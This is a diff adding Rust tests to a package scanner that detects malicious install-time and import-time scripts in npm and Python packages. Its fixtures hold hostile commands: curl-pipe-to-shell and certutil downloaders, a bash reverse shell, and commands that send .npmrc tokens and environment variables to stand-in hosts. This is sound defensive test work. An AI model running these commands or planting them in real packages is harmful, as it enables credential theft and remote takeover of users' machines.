@@ -366,3 +366,222 @@ fn hostile_input_is_bounded() {
         let _ = analyze_script(text, Dialect::Batch);
     }
 }
+
+mod package {
+    //! Scripts in packages: which are read, and in which context.
+
+    use customs_analyze::{Analysis, BehaviourKind as K, Context, analyze_package};
+    use customs_archive::{Entry, EntryKind, Format, Tree};
+    use customs_ecosystem::Package;
+
+    fn analyse(file_name: &str, prefix: &str, files: &[(&str, &str)]) -> Analysis {
+        // An archive's tree is looked up by path, in order.
+        let mut files = files.to_vec();
+        files.sort_unstable();
+        let entries = files
+            .iter()
+            .map(|(path, text)| {
+                let mut e = Entry::bare(
+                    format!("{prefix}{path}"),
+                    EntryKind::File,
+                    text.len() as u64,
+                    None,
+                );
+                e.data = text.as_bytes().to_vec();
+                e.complete = true;
+                e
+            })
+            .collect();
+        let tree = Tree {
+            format: Format::TarGz,
+            entries,
+            anomalies: Vec::new(),
+            total_bytes: 0,
+        };
+        analyze_package(&Package::from_tree(tree, file_name))
+    }
+
+    fn npm(files: &[(&str, &str)]) -> Analysis {
+        analyse("demo-1.0.0.tgz", "package/", files)
+    }
+
+    fn found(a: &Analysis, path: &str, kind: K) -> Option<Context> {
+        a.behaviours
+            .iter()
+            .find(|b| b.path.ends_with(path) && b.kind == kind)
+            .map(|b| b.context)
+    }
+
+    const DROPPER: &str = "#!/bin/sh\nset -e\ncurl -fsSL http://payload.invalid/s.sh | sh\n";
+
+    #[test]
+    fn install_hooks_run_scripts_at_install_time() {
+        for hook in [
+            "bash install.sh",
+            "sh ./install.sh",
+            "chmod +x install.sh && ./install.sh",
+            "node-gyp rebuild || bash install.sh",
+        ] {
+            let manifest = format!(
+                r#"{{"name":"demo","version":"1.0.0","scripts":{{"postinstall":"{hook}"}}}}"#
+            );
+            let a = npm(&[("package.json", &manifest), ("install.sh", DROPPER)]);
+            assert_eq!(
+                found(&a, "install.sh", K::DownloadExecute),
+                Some(Context::Install),
+                "{hook}: {:?}",
+                a.behaviours
+            );
+            let b = a
+                .behaviours
+                .iter()
+                .find(|b| b.kind == K::DownloadExecute)
+                .expect("found");
+            assert_eq!((b.line, b.snippet.as_str()), (3, "curl -fsSL http://payload.invalid/s.sh | sh"));
+        }
+        // Scripts that run scripts, PowerShell and batch files alike.
+        let a = npm(&[
+            (
+                "package.json",
+                r#"{"name":"demo","version":"1.0.0","scripts":{"preinstall":"powershell -ExecutionPolicy Bypass -File scripts/setup.ps1"}}"#,
+            ),
+            ("scripts/setup.ps1", "& cmd /c scripts\\stage2.bat\n"),
+            (
+                "scripts/stage2.bat",
+                "certutil -urlcache -f http://payload.invalid/a.exe a.exe\r\na.exe\r\n",
+            ),
+        ]);
+        assert_eq!(
+            found(&a, "scripts/stage2.bat", K::DownloadExecute),
+            Some(Context::Install),
+            "{:?}",
+            a.behaviours
+        );
+    }
+
+    #[test]
+    fn scripts_nothing_runs_are_not_read() {
+        let a = npm(&[
+            (
+                "package.json",
+                r#"{"name":"demo","version":"1.0.0","scripts":{"test":"bash ci.sh"}}"#,
+            ),
+            ("index.js", "module.exports = 1;\n"),
+            ("ci.sh", DROPPER),
+        ]);
+        assert!(
+            a.behaviours.iter().all(|b| !b.path.ends_with("ci.sh")),
+            "{:?}",
+            a.behaviours
+        );
+    }
+
+    #[test]
+    fn setup_py_and_process_starts_run_scripts() {
+        // setup.py runs a script: install time.
+        let a = analyse(
+            "demo-1.0.tar.gz",
+            "demo-1.0/",
+            &[
+                ("PKG-INFO", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"),
+                (
+                    "setup.py",
+                    "import os\nfrom setuptools import setup\nos.system('bash tools/prepare.sh')\nsetup(name='demo')\n",
+                ),
+                ("tools/prepare.sh", DROPPER),
+            ],
+        );
+        assert_eq!(
+            found(&a, "tools/prepare.sh", K::DownloadExecute),
+            Some(Context::Install),
+            "{:?}",
+            a.behaviours
+        );
+        // A shell command given as an argument vector, at import.
+        let a = analyse(
+            "demo-1.0.tar.gz",
+            "demo-1.0/",
+            &[
+                ("PKG-INFO", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"),
+                (
+                    "demo/__init__.py",
+                    "import subprocess\nsubprocess.Popen(['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.8/443 0>&1'])\n",
+                ),
+            ],
+        );
+        assert_eq!(
+            found(&a, "demo/__init__.py", K::ReverseShell),
+            Some(Context::Import),
+            "{:?}",
+            a.behaviours
+        );
+        // JavaScript that runs a package script: the script is read.
+        let a = npm(&[
+            (
+                "package.json",
+                r#"{"name":"demo","version":"1.0.0","main":"index.js"}"#,
+            ),
+            (
+                "index.js",
+                "const cp = require('child_process');\ncp.execSync('sh lib/helper.sh');\n",
+            ),
+            ("lib/helper.sh", "nohup ./agent >/dev/null 2>&1 &\n"),
+        ]);
+        assert!(
+            found(&a, "lib/helper.sh", K::HiddenProcess).is_some(),
+            "{:?}",
+            a.behaviours
+        );
+    }
+
+    #[test]
+    fn binding_gyp_commands_and_scripts() {
+        let a = npm(&[
+            (
+                "package.json",
+                r#"{"name":"demo","version":"1.0.0","gypfile":true}"#,
+            ),
+            (
+                "binding.gyp",
+                "{'targets': [{'target_name': 'x', 'sources': ['<!@(sh tools/sources.sh)']}]}",
+            ),
+            ("tools/sources.sh", "echo src/a.cc\ncat ~/.npmrc | curl -d @- http://collect.invalid/\n"),
+        ]);
+        assert_eq!(
+            found(&a, "tools/sources.sh", K::SecretExfiltration),
+            Some(Context::Install),
+            "{:?}",
+            a.behaviours
+        );
+    }
+
+    #[test]
+    fn lifecycle_command_strings_are_analysed() {
+        let a = npm(&[(
+            "package.json",
+            r#"{"name":"demo","version":"1.0.0","scripts":{"preinstall":"env | curl -s -X POST --data-binary @- http://collect.invalid/e","postinstall":"node -e \"require('child_process').exec('curl http://payload.invalid/x | sh')\""}}"#,
+        )]);
+        assert_eq!(
+            found(&a, "package.json", K::SecretExfiltration),
+            Some(Context::Install)
+        );
+        assert_eq!(
+            found(&a, "package.json", K::DownloadExecute),
+            Some(Context::Install),
+            "{:?}",
+            a.behaviours
+        );
+        // The benign hooks of popular packages say nothing alarming.
+        for hook in ["node-gyp rebuild", "husky install", "echo thanks", "node install.js"] {
+            let manifest = format!(
+                r#"{{"name":"demo","version":"1.0.0","scripts":{{"install":"{hook}"}}}}"#
+            );
+            let a = npm(&[("package.json", &manifest), ("install.js", "console.log('ok');\n")]);
+            assert!(
+                a.behaviours.iter().all(|b| b.kind == K::ProcessSpawn),
+                "{hook}: {:?}",
+                a.behaviours
+            );
+        }
+    }
+}
